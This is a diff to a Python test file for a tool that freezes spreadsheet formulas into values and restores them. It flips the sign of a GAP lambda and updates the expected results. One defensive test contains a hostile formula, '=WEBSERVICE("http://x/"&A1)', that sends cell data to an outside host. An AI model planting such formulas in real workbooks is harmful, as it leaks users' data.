@@ -53,20 +53,20 @@ def write_book(path: Path, record: bool = True, extra: str = "") -> Path:
     for column in "BC":
         sheet.write_number(f"{column}2", 33, two)
         sheet.write_number(f"{column}3", 50, two)
-    sheet.write_formula("D1", OURS["D1"][0], None, 2)
+    sheet.write_formula("D1", OURS["D1"][0], None, -2)
     sheet.write_formula("D2", "=SUM(A1:A3)", None, 6)
     sheet.write_formula("D3", OURS["D3"][0], None, "a<b")
     sheet.write_formula("D4", OURS["D4"][0], None, "#DIV/0!")
-    sheet.write_formula("D5", OURS["D5"][0], None, 2)
+    sheet.write_formula("D5", OURS["D5"][0], None, -2)
     sheet.write_formula("D6", '=LEN("GAP(1,2)")', None, 8)
     columns: list[dict[str, Any]] = [{"header": "a"}, {"header": "gap", "formula": "=GAP([@a],1)"}]
     sheet.add_table("F1:G3", {"name": "tblX", "columns": columns})
     for row in (1, 2):
         sheet.write_number(row, 5, row)
-        sheet.write_formula(row, 6, OURS["G2"][0], None, row - 1)
+        sheet.write_formula(row, 6, OURS["G2"][0], None, 1 - row)
     if extra:
         sheet.write_formula("D9", extra)
-    book.define_name("SP.GAP", "=_xlfn.LAMBDA(_xlpm.a,_xlpm.b,_xlpm.a-_xlpm.b)")
+    book.define_name("SP.GAP", "=_xlfn.LAMBDA(_xlpm.a,_xlpm.b,_xlpm.b-_xlpm.a)")
     if record:
         for name in ("tblFrozen", "tblUndo", "tblLog"):
             table = TABLES[name]
@@ -114,8 +114,8 @@ def test_every_formula_of_ours_becomes_its_value_and_no_other(plan: Path, tmp_pa
     assert [row[0] for row in book.read_area("'计划 A'!B1:B3")] == PARTS
     assert [row[0] for row in book.read_area("'计划 A'!C1:C3")] == PARTS
     shown = [row[0] for row in book.read_area("'计划 A'!D1:D6")]
-    assert shown == [2, 6, "a<b", CellError.DIV0, 2, 8]
-    assert [row[1] for row in book.read_table("tblX").rows] == [0, 1]
+    assert shown == [-2, 6, "a<b", CellError.DIV0, -2, 8]
+    assert [row[1] for row in book.read_table("tblX").rows] == [0, -1]
     assert changed(before, plan) == {"xl/worksheets/sheet1.xml", "xl/tables/table1.xml"}
     assert b"GAP(" not in parts_of(plan)["xl/tables/table1.xml"]
 
@@ -145,7 +145,7 @@ def test_a_second_time_changes_nothing(plan: Path) -> None:
 
 def test_formulas_frozen_on_two_days_come_back_together(plan: Path) -> None:
     run(freeze, plan)
-    more = CellFormula("计划 A", "D8", "=GAP(9,4)", "plain", ((5,),))
+    more = CellFormula("计划 A", "D8", "=GAP(9,4)", "plain", ((-5,),))
     book = open_package(plan)
     book.write_formulas([more])
     book.save()
@@ -158,7 +158,7 @@ def test_cells_that_a_person_edited_are_all_named_and_nothing_is_written(plan: P
     run(freeze, plan)
     book = open_package(plan)
     book.write_cells({"'计划 A'!B2": 34, "'计划 A'!D3": None})
-    book.write_formulas([CellFormula("计划 A", "D1", "=A3-A1", "plain", ((2,),))])
+    book.write_formulas([CellFormula("计划 A", "D1", "=A1-A3", "plain", ((-2,),))])
     book.save()
     before = plan.read_bytes()
     book = open_package(plan)
@@ -176,7 +176,7 @@ def test_cells_that_a_person_edited_are_all_named_and_nothing_is_written(plan: P
     assert "'计划 A'!B1:B3" in outcome.attention[0].sentence("en")
     texts = {formula.area: formula.text for formula in open_package(plan).formulas(lambda text: True)}
     assert texts["C1:C3"] == SPLIT
-    assert texts["D1"] == "=A3-A1"
+    assert texts["D1"] == "=A1-A3"
     assert {"B1:B3", "D3"}.isdisjoint(texts)
 
 
@@ -193,10 +193,10 @@ def test_a_sheet_that_is_gone_is_named(plan: Path) -> None:
 
 
 def test_a_formula_that_was_never_worked_out_stops_everything(tmp_path: Path) -> None:
-    plan = write_book(tmp_path / "plan.xlsx", extra="=GAP(5,3)")
+    plan = write_book(tmp_path / "plan.xlsx", extra="=GAP(5,D2)")
     data = parts_of(plan)
     sheet = data["xl/worksheets/sheet1.xml"]
-    data["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>GAP(5,3)</f><v>0</v>", b"<f>GAP(5,3)</f><v></v>")
+    data["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>GAP(5,D2)</f><v>0</v>", b"<f>GAP(5,D2)</f><v></v>")
     with zipfile.ZipFile(plan, "w") as file:
         for name, content in data.items():
             file.writestr(name, content)
@@ -205,6 +205,29 @@ def test_a_formula_that_was_never_worked_out_stops_everything(tmp_path: Path) ->
     assert [(p.reason, p.sheet, p.cell) for p in outcome.problems] == [("freeze_no_value", "计划 A", "D9")]
     assert "open the file in Excel" in outcome.problems[0].sentence("en")
     assert not any(call.startswith("write") for call in book.calls)
+
+
+def test_values_that_are_old_or_missing_are_worked_out_anew_where_that_is_certain(tmp_path: Path) -> None:
+    """The file says that it was not calculated since it changed, as files written without Excel do."""
+    plan = write_book(tmp_path / "plan.xlsx", extra="=GAP(5,A3)")
+    book = open_package(plan)
+    book.write_cells({"'计划 A'!A1": 3})  # now 3:2:3 of 100, where D2 and what stands on it is not certain
+    book.save()
+    outcome = run(freeze, plan)
+    book = open_package(plan)
+    # 37.5, 25, 37.5: the tie goes to the earlier cell.
+    for column in "BC":
+        assert [row[0] for row in book.read_area(f"'计划 A'!{column}1:{column}3")] == [38, 25, 37]
+    assert book.read_cell("'计划 A'!D9") == -2
+    said = [each.sentence("en") for each in outcome.attention]
+    assert said[0].startswith("3 values were worked out anew")
+    assert "'计划 A'!D9" in said[0]
+    assert said[1].startswith(
+        "5 of the values may be out of date"
+    )  # IFERROR, IF, SP.GAP and a table's column
+    run(thaw, plan)
+    kinds = {f.area: (f.text, f.kind) for f in open_package(plan).formulas(lambda text: True)}
+    assert {place: kinds[place] for place in OURS} == OURS
 
 
 def test_a_workbook_without_a_place_for_the_record_is_frozen_only_for_good(tmp_path: Path) -> None:
@@ -232,7 +255,7 @@ def test_a_record_that_was_tampered_with_puts_nothing_into_the_sheet(plan: Path)
     assert kept is not None
     entries = [{**vars(each), "values": None} for each in kept.formulas if each.kind == "column"]
     hostile = {
-        "sheet": "计划 A", "area": "D1", "kind": "plain", "values": [[2]], "spelling": "", "fresh": True,
+        "sheet": "计划 A", "area": "D1", "kind": "plain", "values": [[-2]], "spelling": "", "fresh": True,
         "text": '=WEBSERVICE("http://x/"&A1)',
     }  # fmt: skip
     book.write_table("tblFrozen", [[1, deflated({"after": 0, "formulas": [*entries, hostile]})[0]]])
@@ -278,8 +301,8 @@ def test_finalise_forgets_the_formulas(tmp_path: Path) -> None:
 
 def frozen_memory(language: str) -> MemoryWorkbook:
     book = plan_book(language, tblMembers=[{"dimension": "region", "member": "East"}], **SMALL)
-    book._formulas = [CellFormula("Own", "B2", "=GAP(5,3)", "plain", ((2,),))]
-    book._values["Own", 2, 2] = 2
+    book._formulas = [CellFormula("Own", "B2", "=GAP(5,3)", "plain", ((-2,),))]
+    book._values["Own", 2, 2] = -2
     return book
 
 
@@ -313,11 +336,12 @@ class TestLibreOffice:
         run(freeze, plan)
         target = tmp_path / "out"
         subprocess.run(
-            ["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--convert-to",
-             "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(target), str(plan)],
+            ["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(target),
+             str(plan)],
             check=True, capture_output=True, timeout=180,
         )  # fmt: skip
         (made,) = target.glob("*.csv")
         rows = list(csv.reader(made.read_text("utf-8").splitlines()))
         assert [[float(row[1]), float(row[2])] for row in rows[:3]] == [[part, part] for part in PARTS]
-        assert [row[3] for row in rows[:5]] == ["2", "6", "a<b", "#DIV/0!", "2"]
+        assert [row[3] for row in rows[:5]] == ["-2", "6", "a<b", "#DIV/0!", "-2"]
